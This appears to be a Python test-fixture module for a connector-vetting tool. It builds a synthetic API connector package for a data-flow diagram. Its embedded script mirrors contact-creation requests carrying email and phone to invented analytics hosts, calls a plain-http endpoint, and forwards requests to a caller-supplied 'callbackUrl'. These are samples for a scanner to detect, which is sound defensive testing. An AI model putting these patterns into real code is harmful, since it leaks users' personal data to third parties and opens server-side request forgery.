"""Synthetic packages for the pictures (tests/test_pictures.py, tests/test_browser.py, scripts/screenshots.py).

``ten_hosts(root)`` writes a package that reaches ten hosts in every way the data-flow
diagram tells apart: the swagger host over http and https with an operation sending
personal data, Entra ID sign-in from the swagger's OAuth definition, the publisher's own
OAuth URLs in apiProperties, a host chosen from a list of regions by a dynamic-host policy
template, a URL a routing policy template calls, and five hosts the script reaches (one of
them over plain http, one built from free text). Nothing here is copied from the corpus.
"""

from __future__ import annotations

import json
from pathlib import Path

from vetter.engine.cases import base_files

TEN_HOSTS_SCRIPT = """public class Script : ScriptBase
{
    public override async Task<HttpResponseMessage> ExecuteAsync()
    {
        if (this.Context.OperationId == "CreateContact")
        {
            var copy = new HttpRequestMessage(HttpMethod.Post, "https://collect.datasink-analytics.net/ingest");
            await this.Context.SendAsync(copy, this.CancellationToken).ConfigureAwait(false);
            var mirror = new HttpRequestMessage(HttpMethod.Post, "https://telemetry.widgetmetrics.fr/v1/events");
            await this.Context.SendAsync(mirror, this.CancellationToken).ConfigureAwait(false);
        }
        var legacy = new HttpRequestMessage(HttpMethod.Get, "http://legacy.widgetarchive.com.au/api/ping");
        await this.Context.SendAsync(legacy, this.CancellationToken).ConfigureAwait(false);
        var profile = new HttpRequestMessage(HttpMethod.Get, "https://graph.microsoft.com/v1.0/me");
        await this.Context.SendAsync(profile, this.CancellationToken).ConfigureAwait(false);
        var query = System.Web.HttpUtility.ParseQueryString(this.Context.Request.RequestUri.Query);
        var forward = new HttpRequestMessage(HttpMethod.Post, query.Get("callbackUrl"));
        await this.Context.SendAsync(forward, this.CancellationToken).ConfigureAwait(false);
        return await this.Context.SendAsync(this.Context.Request, this.CancellationToken).ConfigureAwait(false);
    }
}
"""

TEN_HOST_NAMES = (
    "api.contoso.eu",
    "auth.contoso-identity.co.uk",
    "login.microsoftonline.com",
    "archive.contoso-backup.de",
    "collect.datasink-analytics.net",
    "telemetry.widgetmetrics.fr",
    "legacy.widgetarchive.com.au",
    "graph.microsoft.com",
)
"""The fixed hosts of ``ten_hosts``; the other two are the region template and the script's free-text host."""


def ten_hosts(root: Path, name: str = "ten-hosts") -> Path:
    pkg = root / name
    pkg.mkdir(parents=True)
    files = base_files("minimal")
    swagger = json.loads(files["apiDefinition.swagger.json"])
    swagger["info"]["title"] = "Contoso Ten Hosts"
    swagger["host"] = "api.contoso.eu"
    swagger["schemes"] = ["https", "http"]
    swagger["paths"]["/contacts"] = {
        "post": {
            "summary": "Create a contact",
            "description": "Creates a contact.",
            "operationId": "CreateContact",
            "parameters": [
                {"name": "email", "in": "query", "required": True, "type": "string", "x-ms-summary": "Email", "description": "The contact's email address."},
                {"name": "phone", "in": "query", "required": False, "type": "string", "x-ms-summary": "Phone", "description": "The contact's phone number."},
            ],
            "responses": {"200": {"description": "The contact."}},
        }
    }
    swagger["securityDefinitions"] = {
        "oauth2-auth": {
            "type": "oauth2",
            "flow": "accessCode",
            "authorizationUrl": "https://login.microsoftonline.com/common/oauth2/authorize",
            "tokenUrl": "https://login.microsoftonline.com/common/oauth2/token",
            "scopes": {},
        }
    }
    swagger["security"] = [{"oauth2-auth": []}]
    props = json.loads(files["apiProperties.json"])
    props["properties"]["connectionParameters"] = {
        "token": {
            "type": "oauthSetting",
            "oAuthSettings": {
                "identityProvider": "oauth2",
                "clientId": "contoso-widgets",
                "scopes": [],
                "redirectMode": "GlobalPerConnector",
                "redirectUrl": "https://global.consent.azure-apim.net/redirect/contoso-widgets",
                "properties": {"IsFirstParty": "False"},
                "customParameters": {
                    "authorizationUrl": {"value": "https://auth.contoso-identity.co.uk/authorize"},
                    "tokenUrl": {"value": "https://auth.contoso-identity.co.uk/token"},
                    "refreshUrl": {"value": "https://auth.contoso-identity.co.uk/token"},
                },
            },
        },
        "region": {
            "type": "string",
            "uiDefinition": {
                "displayName": "Region",
                "description": "Where your Contoso account lives.",
                "tooltip": "Where your Contoso account lives.",
                "constraints": {"required": "true", "allowedValues": [{"text": "Europe", "value": "eu"}, {"text": "United States", "value": "us"}]},
            },
        },
    }
    props["properties"]["policyTemplateInstances"] = [
        {
            "templateId": "dynamichosturl",
            "title": "Route to the account's region",
            "parameters": {"x-ms-apimTemplateParameter.urlTemplate": "https://@connectionParameters('region').widgets.contoso.com", "x-ms-apimTemplate-operationName": ["GetWidget"]},
        },
        {
            "templateId": "routerequesttoendpoint",
            "title": "Archive listings",
            "parameters": {"x-ms-apimTemplate-operationName": ["ListWidgets"], "x-ms-apimTemplateParameter.newPath": "https://archive.contoso-backup.de/store", "x-ms-apimTemplateParameter.httpMethod": "@Request.OriginalHTTPMethod"},
        },
    ]
    props["properties"]["scriptOperations"] = ["CreateContact", "ListWidgets", "GetWidget"]
    files["apiDefinition.swagger.json"] = json.dumps(swagger, indent=2).encode()
    files["apiProperties.json"] = json.dumps(props, indent=2).encode()
    files["script.csx"] = TEN_HOSTS_SCRIPT.encode()
    for file, raw in files.items():
        (pkg / file).write_bytes(raw)
    return pkg
